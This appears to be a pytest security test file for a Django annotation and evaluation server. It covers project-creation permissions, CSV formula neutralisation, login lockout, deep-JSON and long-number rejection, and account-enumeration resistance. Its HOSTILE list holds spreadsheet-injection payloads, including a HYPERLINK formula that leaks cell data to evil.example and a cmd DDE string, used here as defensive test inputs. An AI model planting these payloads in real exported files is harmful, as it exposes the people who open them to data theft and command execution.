"""Issue 9, server half, played as an attacker: an annotator, an outsider, a researcher of another project.

Each test states what must hold on a shared lab server; each failed on the code before the fix.
"""

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path

import pytest
from axes.models import AccessAttempt
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from datasets.models import Item
from datasets.services import import_dataset
from evaluations import exports
from evaluations.ratings_import import RatingsImportError, import_ratings
from evaluations.safe_csv import PLAIN_NUMBER
from projects.models import Project
from rubrics.builtins import ensure_builtin_rubrics
from rubrics.forms import MAX_RUBRIC_BYTES
from rubrics.models import Rubric
from tests import factories

# --- Who may create projects ------------------------------------------------------------------


@pytest.mark.django_db
def test_annotator_cannot_create_a_project_by_default(annotator_client, project):
    before = Project.objects.count()
    response = annotator_client.post("/projects/new/", {"name": "My own study", "description": ""})
    assert response.status_code == 403
    assert "Only staff can create projects" in response.content.decode()
    assert Project.objects.count() == before


@pytest.mark.django_db
def test_outsider_gets_a_clear_refusal_page_for_the_new_project_form(outsider_client):
    response = outsider_client.get("/projects/new/")
    assert response.status_code == 403
    page = response.content.decode()
    assert "Not allowed" in page and "Ask a staff member" in page


@pytest.mark.django_db
def test_project_list_hides_new_project_from_non_staff_and_shows_it_to_staff(annotator_client, annotator):
    assert "New project" not in annotator_client.get("/").content.decode()
    annotator.is_staff = True
    annotator.save(update_fields=["is_staff"])
    assert "New project" in annotator_client.get("/").content.decode()


# --- Formulas in every CSV --------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
]
FORMULA_SCALE = [
    {"value": "=1+1", "label": "formula", "description": "a label that is a formula"},
    {"value": "ok", "label": "ok", "description": "plain"},
]
NEGATIVE_SCALE = [
    {"value": str(n), "label": f"level {n}", "description": f"level {n}"} for n in (-2, -1, 0, 1, 2)
]


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would run: starting with = + - @ tab or CR, not a plain number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in set("=+-@\t\r") and not PLAIN_NUMBER.fullmatch(cell):
                found.append(cell)
    return found


@pytest.fixture
def hostile_evaluation(project):
    """Item ids, rater names (human and model), rubric names and scale values that are formulas."""
    dataset = factories.make_dataset(project, items=3, name="Chats")
    Item.objects.filter(dataset=dataset, position=0).update(external_id="=IMPORTXML(A1)")
    formula = factories.make_rubric(
        project=project, name="=rubric()", kind="categorical", scale=FORMULA_SCALE
    )
    signed = factories.make_rubric(project=project, name="Signed", scale=NEGATIVE_SCALE)
    evaluation = factories.make_evaluation(project, dataset, [formula, signed], name="Hostile")
    humans = [factories.make_rater(project, name=name) for name in HOSTILE[:3]]
    judge = factories.make_rater(project, name=HOSTILE[3], kind="model")
    for item in dataset.items.all():
        for rater in [*humans, judge]:
            factories.make_rating(evaluation, item, formula, rater, "=1+1", explanation=HOSTILE[4])
            factories.make_rating(evaluation, item, signed, rater, "-1" if rater != judge else "-2")
    return evaluation


def test_no_cell_of_the_long_or_wide_export_runs_as_a_formula(hostile_evaluation):
    for chunks in [
        exports.stream(hostile_evaluation, "long"),  # COPY on PostgreSQL
        exports.long_csv(hostile_evaluation),
        exports.wide_csv(hostile_evaluation),
    ]:
        text = b"".join(chunks).decode()
        assert "HYPERLINK" in text and "'=1+1" in text
        assert formula_cells(text) == []


def test_wide_human_majority_of_formula_values_is_neutralised(hostile_evaluation):
    rows = list(csv.DictReader(io.StringIO(b"".join(exports.stream(hostile_evaluation, "wide")).decode())))
    formula, signed = (
        hostile_evaluation.rubric_versions.get(rubric__name=n) for n in ["=rubric()", "Signed"]
    )
    assert {row[f"'{exports.version_heading(formula)} | human majority"] for row in rows} == {"'=1+1"}
    assert {row[f"{exports.version_heading(signed)} | human mean"] for row in rows} == {
        "-1"
    }  # stays a number


def test_agreement_csv_neutralises_rater_rubric_and_scale_text(researcher_client, hostile_evaluation):
    url = reverse("agreement_report_csv", args=[hostile_evaluation.project.slug, hostile_evaluation.pk])
    text = researcher_client.get(url).content.decode()
    assert "HYPERLINK" in text and "+cmd" in text
    assert formula_cells(text) == []


def test_negative_likert_values_stay_numbers_and_round_trip(hostile_evaluation, tmp_path):
    text = b"".join(exports.stream(hostile_evaluation, "long")).decode()
    values = {row["value"] for row in csv.DictReader(io.StringIO(text)) if row["rubric"] == "Signed"}
    assert values == {"-1", "-2"}
    path = tmp_path / "ratings.csv"
    path.write_text(text)
    twin = factories.make_evaluation(
        hostile_evaluation.project, hostile_evaluation.dataset, hostile_evaluation.rubric_versions.all()
    )
    import_ratings(evaluation=twin, path=path)
    assert sorted(twin.ratings.values_list("value", flat=True)) == sorted(
        hostile_evaluation.ratings.values_list("value", flat=True)
    )


def test_ids_and_rater_names_with_spaces_and_formulas_survive_export_and_import(project, tmp_path):
    dataset = factories.make_dataset(project, items=2)
    Item.objects.filter(dataset=dataset, position=0).update(external_id=" d-0 ")
    version = factories.make_rubric(project=project, name="Quality")
    evaluation = factories.make_evaluation(project, dataset, [version])
    items = list(dataset.items.order_by("position"))
    names = ["  spaced rater ", "=HYPERLINK(1)", "'=quoted", "-1"]
    for rater in (factories.make_rater(project, name=name) for name in names):
        for item in items:
            factories.make_rating(evaluation, item, version, rater, "3", explanation=" =keep me ")
    path = tmp_path / "long.csv"
    path.write_bytes(b"".join(exports.stream(evaluation, "long")))
    # Into another project with the same dataset: every rater is new there, so names come from the file alone.
    other = factories.make_project(name="Other lab")
    other_dataset = factories.make_dataset(other, items=2)
    Item.objects.filter(dataset=other_dataset, position=0).update(external_id=" d-0 ")
    other_version = factories.make_rubric(project=other, name="Quality")
    target = factories.make_evaluation(other, other_dataset, [other_version])
    import_ratings(evaluation=target, path=path)
    got = set(target.ratings.values_list("item__external_id", "rater__name", "explanation"))
    want = set(evaluation.ratings.values_list("item__external_id", "rater__name", "explanation"))
    assert got == want
    assert (" d-0 ", "  spaced rater ", " =keep me ") in got


def test_every_csv_writer_in_the_code_goes_through_safe_csv():
    root = Path(__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "bench"} or relative == Path("evaluations/safe_csv.py"):
            continue
        text = path.read_text()
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            offenders.append(str(relative))
    assert offenders == []


# --- Login throttling -------------------------------------------------------------------------


def login(address: str, username: str, password: str):
    return Client(REMOTE_ADDR=address).post("/login/", {"username": username, "password": password})


def guess_wrong(address: str, username: str) -> None:
    """Five wrong passwords: the fifth failure already answers with the lockout page."""
    statuses = [login(address, username, f"guess-{n}").status_code for n in range(5)]
    assert statuses == [200, 200, 200, 200, 429]


@pytest.mark.django_db
def test_five_wrong_passwords_lock_the_username_at_that_address_even_for_the_right_one(annotator):
    guess_wrong("203.0.113.5", annotator.username)
    locked = login("203.0.113.5", annotator.username, "pw-concord-123")
    assert locked.status_code == 429
    page = locked.content.decode()
    assert "logging in is locked for" in page and "15 more minutes" in page
    assert "_auth_user_id" not in locked.wsgi_request.session


@pytest.mark.django_db
def test_the_lock_holds_only_for_that_username_and_address(annotator, researcher):
    guess_wrong("203.0.113.5", annotator.username)
    assert login("198.51.100.7", annotator.username, "pw-concord-123").status_code == 302
    assert login("203.0.113.5", researcher.username, "pw-concord-123").status_code == 302


@pytest.mark.django_db
def test_the_lock_lapses_after_the_cool_off(annotator):
    guess_wrong("203.0.113.5", annotator.username)
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=16))
    assert login("203.0.113.5", annotator.username, "pw-concord-123").status_code == 302


@pytest.mark.django_db
def test_staff_unlock_a_locked_login_in_the_admin(annotator, admin_client):
    guess_wrong("203.0.113.5", annotator.username)
    attempt = AccessAttempt.objects.get(username=annotator.username)
    page = admin_client.get("/admin/axes/accessattempt/")
    assert annotator.username in page.content.decode()
    deleted = admin_client.post(f"/admin/axes/accessattempt/{attempt.pk}/delete/", {"post": "yes"})
    assert deleted.status_code == 302
    assert login("203.0.113.5", annotator.username, "pw-concord-123").status_code == 302


# --- Deeply nested JSON, oversized pasted rubrics, other projects' counts -----------------------


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [100, 100_000])
def test_dataset_jsonl_item_nested_too_deep_is_refused_with_its_line(project, tmp_path, depth):
    path = tmp_path / "deep.jsonl"
    good = json.dumps(
        {"id": "a", "turns": [{"speaker": "USER", "text": "hi"}, {"speaker": "BOT", "text": "ho"}]}
    )
    path.write_text(good + "\n" + '{"id": "b", "metadata": {"x": ' + nested(depth) + "}}\n")
    before = Item.objects.count()
    result = import_dataset(project=project, name="Deep", path=path)
    assert not result.ok and Item.objects.count() == before
    assert [(error.line, "more than 64 levels deep" in error.message) for error in result.errors] == [
        (2, True)
    ]


def test_dataset_json_array_item_nested_too_deep_is_refused_with_its_line(project, tmp_path):
    path = tmp_path / "deep.json"
    path.write_text(
        '[\n{"id": "a", "response": "hi"},\n{"id": "b", "response": "ho", "metadata": ' + nested(80) + "}\n]"
    )
    result = import_dataset(project=project, name="Deep", path=path)
    assert not result.ok
    assert [(error.line, "more than 64 levels deep" in error.message) for error in result.errors] == [
        (3, True)
    ]


def test_dataset_json_array_nested_beyond_the_parser_is_refused_not_crashed(project, tmp_path):
    path = tmp_path / "deeper.json"
    path.write_text('[\n{"id": "b", "response": "ho", "metadata": ' + nested(200_000) + "}\n]")
    result = import_dataset(project=project, name="Deep", path=path)
    assert not result.ok
    assert result.errors[0].line == 2 and "more than 64 levels deep" in result.errors[0].message


def test_ratings_jsonl_nested_too_deep_is_refused_with_its_line(hostile_evaluation, tmp_path):
    path = tmp_path / "ratings.jsonl"
    row = {"item_id": "d-1", "rubric": "Signed", "rater": "eve", "rater_kind": "human", "value": "1"}
    path.write_text(json.dumps(row) + "\n" + json.dumps(row)[:-1] + ', "extra": ' + nested(100_000) + "}\n")
    with pytest.raises(RatingsImportError, match="line 2: the JSON nests lists and objects more than 64"):
        import_ratings(evaluation=hostile_evaluation, path=path)


def test_pasted_rubric_text_over_the_file_limit_is_refused(researcher_client, project):
    text = "Rate the response.\n{{Dialog}}\n" + "x" * MAX_RUBRIC_BYTES
    response = researcher_client.post(
        reverse("rubric_import", args=[project.slug]), {"text": text, "name": "Big"}
    )
    assert response.status_code == 400
    assert "larger than the 1024 KB a rubric may have" in response.content.decode()
    assert not Rubric.objects.filter(name="Big").exists()


def test_rubric_page_shows_only_this_projects_rating_counts_on_a_builtin(project, researcher_client):
    ensure_builtin_rubrics()
    builtin = Rubric.objects.filter(project__isnull=True).order_by("builtin_key")[0]
    version = builtin.versions.latest("number")
    other = factories.make_project(name="Rival lab")
    dataset = factories.make_dataset(other, items=3)
    evaluation = factories.make_evaluation(other, dataset, [version])
    rater = factories.make_rater(other, name="rival")
    for item in dataset.items.all():
        factories.make_rating(evaluation, item, version, rater, "3")
    page = researcher_client.get(reverse("rubric_detail", args=[project.slug, builtin.pk])).content.decode()
    assert "3 ratings" not in page
    assert "frozen" in page  # that a version is frozen still shows: it decides what an edit does


# --- Issue 34: the 500s left, names that fit, who can be added -----------------------------------


@pytest.mark.parametrize("parameter", ["q", "meta"])
def test_a_nul_in_the_item_browsers_filters_is_refused_with_a_message(researcher_client, project, parameter):
    dataset = factories.make_dataset(project, items=3)
    value = "hel\x00lo" if parameter == "q" else "topic=wea\x00ther"
    response = researcher_client.get(
        reverse("dataset_detail", args=[project.slug, dataset.pk]), {parameter: value}
    )
    assert response.status_code == 200
    page = response.content.decode()
    label = "search" if parameter == "q" else "metadata filter"
    assert f"The {label} holds a NUL character" in page
    assert "d-0" not in page  # no item is shown as matching


@pytest.mark.parametrize("minutes", [str(10**20), "10081", "1" * 5000])
def test_a_reservation_timeout_past_a_week_is_refused_and_nothing_changes(
    researcher_client, project, minutes
):
    version = factories.make_rubric(project=project)
    evaluation = factories.make_evaluation(project, factories.make_dataset(project, items=2), [version])
    response = researcher_client.post(
        reverse("assignment_settings", args=[project.slug, evaluation.pk]),
        {"overlap": "3", "reservation_minutes": minutes, "order": "dataset"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert "Nothing was changed" in page
    assert "between 1 and 10,080 minutes" in page or "must be a whole number" in page
    evaluation.refresh_from_db()
    assert (evaluation.overlap, evaluation.reservation_minutes) == (2, 30)


def test_project_names_whose_slug_passes_80_characters_get_cut_distinct_addresses(outsider_client, outsider):
    outsider.is_staff = True
    outsider.save(update_fields=["is_staff"])
    common = "A study of " + "very " * 30
    slugs = []
    for ending in ("first", "second"):
        name = (common + ending)[:200]
        response = outsider_client.post("/projects/new/", {"name": common + ending, "description": ""})
        assert response.status_code == 302, response.content.decode()[:500]
        project = Project.objects.get(name=name)
        assert len(project.slug) <= 80 and response["Location"] == f"/p/{project.slug}/"
        slugs.append(project.slug)
    assert slugs[0] != slugs[1] and slugs[1].endswith("-2")
    assert outsider_client.get(f"/p/{slugs[1]}/").status_code == 200


def test_a_rubric_json_nested_too_deep_is_refused_at_the_depth_of_the_other_imports(
    researcher_client, project
):
    spec = '{"name": "Deep", "kind": "likert", "extra": ' + nested(5_000) + "}"
    response = researcher_client.post(reverse("rubric_import", args=[project.slug]), {"text": spec})
    assert response.status_code == 400
    assert "more than 64 levels deep" in response.content.decode()
    assert not Rubric.objects.filter(name="Deep").exists()


LONG_NUMBER = "9" * 5_000


def test_a_number_too_long_to_read_in_a_dataset_is_refused_with_its_line_and_field(project, tmp_path):
    good = {"id": "a", "turns": [{"speaker": "USER", "text": "hi"}, {"speaker": "BOT", "text": "ho"}]}
    path = tmp_path / "long.jsonl"
    path.write_text(json.dumps(good) + "\n" + json.dumps(good).replace('"a"', '"b"')[:-1]
                    + ', "metadata": {"x": ' + LONG_NUMBER + "}}\n")  # fmt: skip
    result = import_dataset(project=project, name="Long", path=path)
    assert not result.ok and not Item.objects.filter(dataset__name="Long").exists()
    assert [(error.line, error.message) for error in result.errors] == [
        (2, "metadata.x: a number with 5,000 digits, too long to read (at most 4,300 digits)")
    ]
    array = tmp_path / "long.json"
    array.write_text("[\n" + json.dumps(good) + ',\n{"id": "b", "response": "ho", "metadata": {"n": [1, '
                     + LONG_NUMBER + "]}}\n]")  # fmt: skip
    result = import_dataset(project=project, name="Long", path=array)
    assert [(error.line, error.message.split(":")[0]) for error in result.errors] == [(3, "metadata.n[1]")]


def test_a_number_too_long_to_read_in_ratings_or_a_rubric_spec_is_refused_naming_it(
    hostile_evaluation, tmp_path, researcher_client, project
):
    path = tmp_path / "ratings.jsonl"
    row = {"item_id": "d-1", "rubric": "Signed", "rater": "eve", "rater_kind": "human", "value": "1"}
    path.write_text(json.dumps(row) + "\n" + json.dumps(row).replace('"1"}', LONG_NUMBER + "}") + "\n")
    with pytest.raises(RatingsImportError, match="line 2: value: a number with 5,000 digits"):
        import_ratings(evaluation=hostile_evaluation, path=path)
    spec = '{"name": "Long", "kind": "likert", "extra": ' + LONG_NUMBER + "}"
    response = researcher_client.post(reverse("rubric_import", args=[project.slug]), {"text": spec})
    assert response.status_code == 400
    assert "extra: a number with 5,000 digits" in response.content.decode()


def test_a_project_rubric_cannot_take_a_builtins_name_by_form_or_in_the_database(researcher_client, project):
    from django.db import IntegrityError, transaction

    ensure_builtin_rubrics()
    spec = json.dumps(
        {"name": "repetitiveness", "kind": "likert", "scale": NEGATIVE_SCALE,
         "prompt_template": "Rate {criterion}.\n\n{scale}\n\n{{Dialog}}"}
    )  # fmt: skip
    response = researcher_client.post(reverse("rubric_import", args=[project.slug]), {"text": spec})
    assert response.status_code == 400
    assert "Repetitiveness is the name of a built-in rubric" in response.content.decode(), re.findall(
        r'class="[^"]*error[^"]*">(.*?)<', response.content.decode(), re.S
    )
    assert not Rubric.objects.filter(project=project).exists()
    with pytest.raises(IntegrityError), transaction.atomic():
        Rubric.objects.create(project=project, name="REPETITIVENESS", kind="likert")
    own = Rubric.objects.create(project=project, name="Mine", kind="likert")
    with pytest.raises(IntegrityError), transaction.atomic():
        Rubric.objects.filter(pk=own.pk).update(name="Repetitiveness")


def test_examples_from_disagreements_on_a_builtin_make_numbered_copies_named_apart(project):
    import numpy as np

    from agreement.compare import runs_of
    from agreement.examples import candidates, make_examples_version
    from tests.agreement.helpers import make_rated_evaluation

    truth = np.random.default_rng(9).integers(1, 6, 40)
    table = {
        "ann": [str(v) for v in truth],
        "bob": [str(v) for v in truth],
        "judge": [str(v) if n % 3 else str(6 - v if v != 3 else 4) for n, v in enumerate(truth)],
    }
    evaluation, version = make_rated_evaluation(project, kind="likert", table=table, models=["judge"])
    Rubric.objects.filter(pk=version.rubric_id).update(project=None, name="Shared " + "x" * 193)
    (run,) = runs_of(evaluation)
    chosen = [candidate.item.pk for candidate in candidates(evaluation=evaluation, run=run)][:1]
    first = make_examples_version(evaluation=evaluation, run=run, item_ids=chosen)
    second = make_examples_version(evaluation=evaluation, run=run, item_ids=chosen)
    names = [first.rubric.name, second.rubric.name]
    assert names[0].endswith(" (examples)") and names[1].endswith(" (examples 2)")
    assert all(len(name) <= 200 and name.startswith("Shared xxx") for name in names)
    assert (first.number, second.number) == (1, 1) and first.rubric.project == project
    builtin_names = set(Rubric.objects.filter(project__isnull=True).values_list("name", flat=True))
    assert not builtin_names & set(Rubric.objects.filter(project=project).values_list("name", flat=True))


def test_a_researcher_adds_only_people_who_share_a_project_and_learns_nothing_of_others(
    researcher_client, researcher, project, outsider
):
    """The same words for an account elsewhere on the server and for none at all; staff may add anyone."""
    version = factories.make_rubric(project=project)
    evaluation = factories.make_evaluation(project, factories.make_dataset(project, items=2), [version])
    add = reverse("annotators_add", args=[project.slug, evaluation.pk])
    member = reverse("project_member_add", args=[project.slug])
    answers = {}
    for name in (outsider.username, "ghost"):
        page = researcher_client.post(
            add, {"usernames": name}, headers={"HX-Request": "true"}
        ).content.decode()
        answers[name] = re.sub(r"\b[A-Za-z0-9]{64}\b", "TOKEN", page).replace(name, "NAME")
        refused = researcher_client.post(member, {"username": name, "role": "annotator"})
        assert refused.status_code == 400
        answers[name + "/member"] = re.sub(r"\b[A-Za-z0-9]{64}\b", "TOKEN", refused.content.decode()).replace(
            name, "NAME"
        )
    assert answers[outsider.username] == answers["ghost"]
    assert answers[outsider.username + "/member"] == answers["ghost/member"]
    assert "that you can add" in answers["ghost"]
    assert project.role_of(outsider) is None and not evaluation.annotators.filter(pk=outsider.pk).exists()
    created = researcher_client.post(
        reverse("annotator_create", args=[project.slug, evaluation.pk]),
        {"username": outsider.username, "email": ""},
        headers={"HX-Request": "true"},
    ).content.decode()
    assert "cannot be used; choose another" in created and "already exists" not in created
    researcher.is_staff = True
    researcher.save(update_fields=["is_staff"])
    assert (
        researcher_client.post(member, {"username": outsider.username, "role": "annotator"}).status_code
        == 302
    )
    assert project.role_of(outsider) == "annotator"


@pytest.mark.parametrize("params", [{"key": "to\x00pic", "value": "x"}, {"key": "topic", "value": "x\x00"}])
@pytest.mark.parametrize("view", ["agreement_report", "agreement_report_json", "agreement_report_csv"])
def test_a_nul_in_the_reports_metadata_filter_is_a_bad_request_not_a_500(
    researcher_client, project, view, params
):
    version = factories.make_rubric(project=project)
    evaluation = factories.make_evaluation(project, factories.make_dataset(project, items=2), [version])
    response = researcher_client.get(reverse(view, args=[project.slug, evaluation.pk]), params)
    assert response.status_code == 400
